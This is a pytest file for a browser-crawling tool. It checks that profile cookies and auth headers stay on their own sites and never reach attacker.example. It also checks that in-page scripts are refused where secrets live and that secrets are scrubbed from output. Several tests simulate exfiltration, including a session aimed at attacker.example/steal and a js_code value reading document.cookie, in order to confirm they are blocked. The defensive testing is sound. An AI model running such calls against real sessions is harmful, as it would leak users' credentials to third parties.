"""Issue 13: a profile's secrets reach only its own sites and never the model (fake browser; the same attacks
against real Chromium are in tests/integration/test_secrets_real.py)."""

from __future__ import annotations

import logging
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from support import error_text, shown

from crawlkeeper import ConfigError, CrawlError, Profile, SessionHeaders, hookimpl
from crawlkeeper.config import Settings

SITE = "https://work.example"
ATTACKER = "https://attacker.example"
SECRET = "sid-SECRET-5f0e9a71c2"
TOKEN = "tok-SECRET-8d41be07aa"


@pytest.fixture
def site(crawlkeeper_browser: Any) -> Any:
    crawlkeeper_browser.add_page(
        f"{SITE}/*",
        f'<html><head><title>Work</title></head><body><p>Work page.</p><img src="{ATTACKER}/pixel.png">'
        f'<script src="{SITE}/app.js"></script></body></html>',
    )
    crawlkeeper_browser.add_page(f"{ATTACKER}/*", "<html><head><title>Evil</title></head><body>x</body></html>")
    return crawlkeeper_browser


@pytest.fixture
def env(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CK_SID", SECRET)
    monkeypatch.setenv("CK_TOKEN", TOKEN)


def _profile(crawlkeeper_app: Any, name: str) -> Profile:
    crawlkeeper_app.profiles.refresh(force=True)
    return crawlkeeper_app.profiles.refresh()[name]


# -- 1. profile cookies name their site ----------------------------------------------------------------------


def test_profile_cookie_without_url_or_domain_is_broken(
    crawlkeeper_app: Any, write_profile: Callable[..., Path], env: None
) -> None:
    write_profile("work", '[[cookies]]\nname = "sid"\nvalue_env = "CK_SID"\n')
    profile = _profile(crawlkeeper_app, "work")
    assert profile.error and "work.toml" in profile.error
    assert "cookies[0] ('sid')" in profile.error and "url or domain" in profile.error
    assert SECRET not in profile.error


def test_cli_profiles_says_broken_for_an_unbound_cookie(
    crawlkeeper_config: Any, write_profile: Callable[..., Path], env: None, restore_logging: None
) -> None:
    from crawlkeeper.cli import main

    write_profile("work", '[[cookies]]\nname = "sid"\nvalue_env = "CK_SID"\n')
    out = CliRunner().invoke(main, ["profiles", "--config", str(crawlkeeper_config.path)])
    assert out.exit_code == 1
    assert "BROKEN" in out.output and "work.toml" in out.output and "url or domain" in out.output


@pytest.mark.anyio
async def test_profile_cookie_never_follows_the_callers_url(
    crawlkeeper_client: Callable[..., Any], crawlkeeper_register: Callable[..., Any], site: Any, env: None
) -> None:
    """A profile from any source (here a plugin, bypassing the TOML checks) cannot bind a cookie to the URL
    the caller passes: before the fix, create_session(url=attacker) sent the secret cookie there."""

    class Vault:
        @hookimpl
        def crawlkeeper_load_profiles(self, config: Any) -> list[Profile]:
            return [Profile(name="vault", cookies=[{"name": "sid", "value_env": "CK_SID"}])]

    crawlkeeper_register(Vault(), "vault")
    async with crawlkeeper_client() as client:
        result = await client.call_tool("create_session", {"profile": "vault", "url": f"{ATTACKER}/steal"})
    message = error_text(result)
    assert "'sid'" in message and "neither url nor domain" in message and SECRET not in message
    assert all("sid" not in r.cookie_names for r in site.requests_to("attacker.example"))


@pytest.mark.anyio
async def test_call_cookies_keep_applying_to_the_session_url(
    crawlkeeper_client: Callable[..., Any], site: Any
) -> None:
    async with crawlkeeper_client() as client:
        created = await client.call_tool(
            "create_session", {"url": f"{SITE}/", "cookies": [{"name": "pref", "value": "dark-mode-1"}]})
    assert not created.is_error, shown(created)
    assert site.requests_to("work.example")[0].cookie_names == ["pref"]


@pytest.mark.anyio
async def test_profile_cookies_are_http_only_unless_opted_out(
    crawlkeeper_client: Callable[..., Any], crawlkeeper_browser: Any, write_profile: Callable[..., Path], env: None
) -> None:
    write_profile("work", '[[cookies]]\nname = "sid"\nvalue_env = "CK_SID"\ndomain = "work.example"\n'
                          '[[cookies]]\nname = "theme"\nvalue = "dark"\ndomain = "work.example"\nhttpOnly = false\n'
                          '[security]\nallowed_domains = ["work.example"]\n')
    async with crawlkeeper_client() as client:
        created = await client.call_tool("create_session", {"profile": "work"})
    assert not created.is_error, shown(created)
    jar = {c["name"]: c for c in crawlkeeper_browser.contexts[-1].jar}
    assert jar["sid"]["httpOnly"] is True
    assert jar["theme"]["httpOnly"] is False


# -- 5. SameSite=None without Secure --------------------------------------------------------------------------


@pytest.mark.anyio
async def test_same_site_none_without_secure_is_an_error_naming_the_cookie(
    crawlkeeper_client: Callable[..., Any], crawlkeeper_app: Any, write_profile: Callable[..., Path], site: Any
) -> None:
    async with crawlkeeper_client() as client:
        result = await client.call_tool("create_session", {
            "url": f"{SITE}/", "cookies": [{"name": "xsite", "value": "value-7c1d2e9f", "sameSite": "None"}]})
    message = error_text(result)
    assert "'xsite'" in message and "secure" in message and "value-7c1d2e9f" not in message
    write_profile("work", '[[cookies]]\nname = "xsite"\nvalue = "v"\ndomain = "work.example"\nsameSite = "None"\n')
    error = _profile(crawlkeeper_app, "work").error
    assert error and "('xsite').sameSite" in error and "secure = true" in error


# -- 2. headers bound to their sites --------------------------------------------------------------------------

HEADER_PROFILE = """
[browser]
extra_headers = { Authorization = { value_env = "CK_TOKEN" }, "Accept-Language" = "fr" }
header_domains = ["work.example"]
"""


@pytest.mark.anyio
async def test_profile_headers_reach_its_site_and_never_a_third_party(
    crawlkeeper_client: Callable[..., Any], site: Any, write_profile: Callable[..., Path], env: None
) -> None:
    write_profile("work", HEADER_PROFILE)
    async with crawlkeeper_client() as client:
        page = await client.call_tool("crawl_url", {"url": f"{SITE}/", "profile": "work"})
        created = await client.call_tool("create_session", {"profile": "work", "url": f"{ATTACKER}/steal"})
    assert not page.is_error and not created.is_error, shown(page) + shown(created)
    own = site.requests_to("work.example")
    assert {r.resource_type for r in own} == {"document", "script"}
    assert all(r.headers.get("authorization") == TOKEN and r.headers.get("accept-language") == "fr" for r in own)
    stolen = site.requests_to("attacker.example")
    assert {r.resource_type for r in stolen} == {"image", "document"}  # the <img>, then the caller's URL
    assert all("authorization" not in r.headers and "accept-language" not in r.headers for r in stolen)
    assert TOKEN not in shown(page) + shown(created)


@pytest.mark.parametrize("header", ["Authorization", "X-Api-Key", "Proxy-Authorization", "X-Auth-Token", "Cookie"])
def test_credential_header_without_a_scope_makes_the_profile_broken(
    crawlkeeper_app: Any, write_profile: Callable[..., Path], header: str
) -> None:
    write_profile("work", f'[browser]\nextra_headers = {{ "{header}" = "literal-value-9f" }}\n')
    error = _profile(crawlkeeper_app, "work").error
    assert error and f"extra_headers.{header}" in error and "allowed_domains" in error
    assert "literal-value-9f" not in error


def test_header_by_reference_is_a_credential_and_plain_headers_need_no_scope(
    crawlkeeper_app: Any, write_profile: Callable[..., Path], env: None
) -> None:
    write_profile("ref", '[browser]\nextra_headers = { "X-Tenant" = { value_env = "CK_TOKEN" } }\n')
    write_profile("plain", '[browser]\nextra_headers = { "Accept-Language" = "de" }\n')
    write_profile("scoped", '[browser]\nextra_headers = { "X-Tenant" = { value_env = "CK_TOKEN" } }\n'
                            '[[cookies]]\nname = "a"\nvalue = "b"\nurl = "https://work.example/"\n')
    write_profile("login", '[browser]\nextra_headers = { "Authorization" = "Basic abcdef" }\n'
                           '[auth]\nmethod = "form"\nlogin_url = "https://sso.example/login"\n')
    write_profile("unset", '[browser]\nextra_headers = { "X-Tenant" = { value_env = "CK_NOT_SET_ANYWHERE" } }\n'
                           'header_domains = ["work.example"]\n')
    profiles = crawlkeeper_app.profiles.refresh(force=True)
    assert "X-Tenant" in (profiles["ref"].error or "")
    assert profiles["plain"].error is None
    assert profiles["scoped"].error is None  # its cookie's site is its own
    assert profiles["login"].error is None  # so is its auth method's login URL
    assert "CK_NOT_SET_ANYWHERE is not set" in (profiles["unset"].error or "")


@pytest.mark.anyio
async def test_plain_header_of_a_profile_without_sites_goes_everywhere(
    crawlkeeper_client: Callable[..., Any], site: Any, write_profile: Callable[..., Path]
) -> None:
    write_profile("plain", '[browser]\nextra_headers = { "Accept-Language" = "de" }\n')
    async with crawlkeeper_client() as client:
        assert not (await client.call_tool("crawl_url", {"url": f"{SITE}/", "profile": "plain"})).is_error
    assert {r.headers.get("accept-language") for r in site.requests} == {"de"}


def test_server_config_credential_header_needs_header_domains() -> None:
    with pytest.raises(ValueError, match="header_domains"):
        Settings(browser={"extra_headers": {"Authorization": "Bearer x"}})
    Settings(browser={"extra_headers": {"Authorization": "Bearer x"}, "header_domains": ["work.example"]})


# -- 3. the plugin API ---------------------------------------------------------------------------------------


class HeaderPlugin:
    def __init__(self, legacy: bool | str = False, domains: list[str] | None = None) -> None:
        self.legacy = legacy
        self.domains = domains
        self.seen: dict[str, str] = {}

    @hookimpl
    async def crawlkeeper_session_created(self, session: Any) -> None:
        if self.legacy == "page":
            page = await session.ensure_page()
            await page.set_extra_http_headers({"X-Plugin-Key": "plugin-key-0451ab"})
        elif self.legacy:
            await session.context.set_extra_http_headers({"X-Plugin-Key": "plugin-key-0451ab"})
        else:
            await session.headers.add({"X-Plugin-Key": "plugin-key-0451ab"}, domains=self.domains)
        self.seen = session.headers.effective(f"{SITE}/")


@pytest.mark.anyio
@pytest.mark.parametrize("legacy", [False, True, "page"],
                         ids=["session.headers", "old context.set_extra_http_headers", "page.set_extra_http_headers"])
async def test_plugin_headers_merge_with_the_profiles_and_stay_on_its_sites(
    crawlkeeper_client: Callable[..., Any], crawlkeeper_register: Callable[..., Any], site: Any,
    write_profile: Callable[..., Path], env: None, legacy: bool, caplog: pytest.LogCaptureFixture,
) -> None:
    write_profile("work", HEADER_PROFILE)
    plugin = crawlkeeper_register(HeaderPlugin(legacy=legacy), "hdr")
    with caplog.at_level(logging.WARNING, logger="crawlkeeper.headers"):
        async with crawlkeeper_client() as client:
            created = await client.call_tool("create_session", {"profile": "work", "url": f"{SITE}/"})
    assert not created.is_error, shown(created)
    assert plugin.seen == {"Authorization": TOKEN, "Accept-Language": "fr", "X-Plugin-Key": "plugin-key-0451ab"}
    [own] = [r for r in site.requests_to("work.example") if r.resource_type == "document"]
    assert own.headers["authorization"] == TOKEN and own.headers["x-plugin-key"] == "plugin-key-0451ab"
    assert all("x-plugin-key" not in r.headers for r in site.requests_to("attacker.example"))
    warned = [r.getMessage() for r in caplog.records if "set_extra_http_headers" in r.getMessage()]
    assert bool(warned) == bool(legacy)
    if legacy:
        assert "test_secrets" in warned[0]  # names the calling module


@pytest.mark.anyio
async def test_plugin_credential_header_without_any_scope_fails_loudly(
    crawlkeeper_client: Callable[..., Any], crawlkeeper_register: Callable[..., Any], site: Any
) -> None:
    crawlkeeper_register(HeaderPlugin(legacy=True), "hdr")
    async with crawlkeeper_client() as client:
        result = await client.call_tool("create_session", {"url": f"{SITE}/"})
    message = error_text(result)
    assert "X-Plugin-Key" in message and "domains=" in message and "plugin-key-0451ab" not in message


@pytest.mark.anyio
async def test_plugin_header_with_explicit_domains_on_a_session_without_sites(
    crawlkeeper_client: Callable[..., Any], crawlkeeper_register: Callable[..., Any], site: Any
) -> None:
    crawlkeeper_register(HeaderPlugin(domains=["work.example"]), "hdr")
    async with crawlkeeper_client() as client:
        created = await client.call_tool("create_session", {"url": f"{SITE}/"})
    assert not created.is_error, shown(created)
    assert site.requests_to("work.example")[0].headers["x-plugin-key"] == "plugin-key-0451ab"
    assert all("x-plugin-key" not in r.headers for r in site.requests_to("attacker.example"))


@pytest.mark.anyio
async def test_session_headers_add_remove_effective(crawlkeeper_browser: Any) -> None:
    from crawlkeeper.options import ContextOptions

    context = await crawlkeeper_browser.new_context(ContextOptions())
    headers = SessionHeaders(context, sites=["https://Work.Example/login"], owner="test")
    assert headers.sites == ("work.example",)
    await headers.add({"X-Token": "t-123456789"})
    await headers.add({"Accept-Language": "fr"}, domains=["cdn.example"])
    assert headers.effective("https://api.work.example/x") == {"X-Token": "t-123456789"}
    assert headers.effective("https://cdn.example/") == {"Accept-Language": "fr"}
    assert headers.effective("https://work.example.attacker.example/") == {}
    assert headers.effective() == {}
    assert headers.scopes() == {"X-Token": ("work.example",), "Accept-Language": ("cdn.example",)}
    assert headers.holds_secrets and "t-123456789" not in repr(headers)
    await headers.remove("x-token")
    assert headers.effective("https://work.example/") == {} and not headers.holds_secrets
    with pytest.raises(CrawlError, match="X-Secret"):
        await SessionHeaders(context, owner="bare").add({"X-Secret": "s-123456789"})


# -- 4. js_code and secrets ----------------------------------------------------------------------------------


@pytest.fixture
def work_profile(write_profile: Callable[..., Path], env: None) -> None:
    write_profile("work", '[[cookies]]\nname = "sid"\nvalue_env = "CK_SID"\ndomain = "work.example"\n')


@pytest.mark.anyio
async def test_js_code_is_refused_where_profile_secrets_live_and_allowed_elsewhere(
    crawlkeeper_client: Callable[..., Any], site: Any, work_profile: None
) -> None:
    async with crawlkeeper_client() as client:
        created = await client.call_tool("create_session", {"profile": "work", "session_id": "w"})
        assert not created.is_error, shown(created)
        for args in ({"js_code": "document.cookie"}, {"wait_for": "js:() => !!document.cookie"},
                     {"wait_for": "() => true"}, {"wait_for": "async () => true"}):
            refused = error_text(await client.call_tool("crawl_url", {"url": f"{SITE}/", "session_id": "w", **args}))
            assert "[security] js_code" in refused and "no-secrets" in refused and "session 'w'" in refused
        temporary = error_text(await client.call_tool(
            "crawl_url", {"url": f"{SITE}/", "profile": "work", "js_code": "1"}))
        assert "profile 'work'" in temporary
        # A CSS wait_for still works there; a script is fine where no secret lives.
        assert not (await client.call_tool("crawl_url", {"url": f"{SITE}/", "session_id": "w",
                                                         "wait_for": "p"})).is_error
        assert not (await client.call_tool("crawl_url", {"url": f"{SITE}/", "js_code": "1"})).is_error
        plain = await client.call_tool("create_session", {"session_id": "p", "cookies": [
            {"name": "pref", "value": "x", "url": f"{SITE}/"}]})
        assert not plain.is_error
        assert not (await client.call_tool("crawl_url", {"url": f"{SITE}/", "session_id": "p",
                                                         "js_code": "1"})).is_error


@pytest.mark.anyio
async def test_js_code_switch_allow_and_deny(
    crawlkeeper_client: Callable[..., Any], crawlkeeper_app: Any, site: Any, work_profile: None
) -> None:
    security = crawlkeeper_app.config.settings.security
    async with crawlkeeper_client() as client:
        await client.call_tool("create_session", {"profile": "work", "session_id": "w"})
        security.js_code = "allow"
        assert not (await client.call_tool("crawl_url", {"url": f"{SITE}/", "session_id": "w",
                                                         "js_code": "1"})).is_error
        security.js_code = "deny"
        denied = error_text(await client.call_tool("crawl_url", {"url": f"{SITE}/", "js_code": "1"}))
        assert 'js_code = "deny"' in denied


def test_js_code_setting_is_validated(tmp_path: Path) -> None:
    from crawlkeeper.config import load_config

    path = tmp_path / "c.toml"
    path.write_text('[security]\njs_code = "sometimes"\n')
    with pytest.raises(ConfigError, match=r"\[security\] js_code"):
        load_config(path)


@pytest.mark.anyio
async def test_secret_values_are_scrubbed_from_every_result(
    crawlkeeper_client: Callable[..., Any], crawlkeeper_browser: Any, work_profile: None
) -> None:
    """A page (or a script) that echoes the secret cookie hands back ***, in every field and cursor page."""
    echo = f"<p>{'filler text. ' * 40}your cookie: sid={SECRET}</p>" * 3
    crawlkeeper_browser.add_page(f"{SITE}/*", f"<html><head><title>t {SECRET}</title></head><body>{echo}</body></html>")
    async with crawlkeeper_client() as client:
        await client.call_tool("create_session", {"profile": "work", "session_id": "w"})
        url = f"{SITE}/?q={SECRET}"
        first = await client.call_tool("crawl_url", {"url": url, "session_id": "w", "max_chars": 400})
        pages = [first]
        while pages[-1].structured_content["next_cursor"]:
            pages.append(await client.call_tool(
                "crawl_url", {"url": url, "cursor": pages[-1].structured_content["next_cursor"], "max_chars": 400}))
        many = await client.call_tool("crawl_many", {"urls": [url, "notaurl"], "session_id": "w"})
    assert len(pages) > 2
    everything = "".join(shown(p) for p in [*pages, many])
    assert SECRET not in everything
    assert "sid=***" in everything and "t ***" in first.structured_content["title"]


# -- doctor ----------------------------------------------------------------------------------------------------


def test_doctor_warns_about_profiles_with_secrets_and_no_domain_scope(
    crawlkeeper_config: Any, write_profile: Callable[..., Path], env: None, restore_logging: None,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from crawlkeeper import doctor

    write_profile("loose", '[[cookies]]\nname = "sid"\nvalue_env = "CK_SID"\ndomain = "work.example"\n')
    write_profile("tight", '[[cookies]]\nname = "sid"\nvalue_env = "CK_SID"\ndomain = "work.example"\n'
                           '[security]\nallowed_domains = ["work.example"]\n')
    write_profile("harmless", '[crawl]\noutput = "text"\n')
    lines: list[str] = []
    monkeypatch.setattr(doctor.click, "echo", lambda text="", **_: lines.append(str(text)))
    monkeypatch.setattr(doctor.asyncio, "run", lambda coro: (coro.close(), 0.1)[1])
    doctor.run_doctor(str(crawlkeeper_config.path))
    [warning] = [line for line in lines if line.startswith("[warn] profile scope")]
    assert "loose" in warning and "tight" not in warning and "harmless" not in warning
    assert SECRET not in "\n".join(lines)


@pytest.mark.anyio
async def test_extract_results_are_scrubbed_too(
    crawlkeeper_client: Callable[..., Any], crawlkeeper_browser: Any, work_profile: None
) -> None:
    crawlkeeper_browser.add_page(f"{SITE}/*", f'<html><head><title>Shop</title></head><body>'
                                 f'<div class="item"><h2>token {SECRET}</h2></div></body></html>')
    schema = {"name": "items", "baseSelector": "div.item", "fields": [{"name": "t", "selector": "h2", "type": "text"}]}
    async with crawlkeeper_client() as client:
        await client.call_tool("create_session", {"profile": "work", "session_id": "w"})
        extracted = await client.call_tool("extract", {"url": f"{SITE}/", "schema": schema, "session_id": "w"})
    assert not extracted.is_error, shown(extracted)
    assert extracted.structured_content["items"] == [{"t": "token ***"}]
    assert SECRET not in shown(extracted)
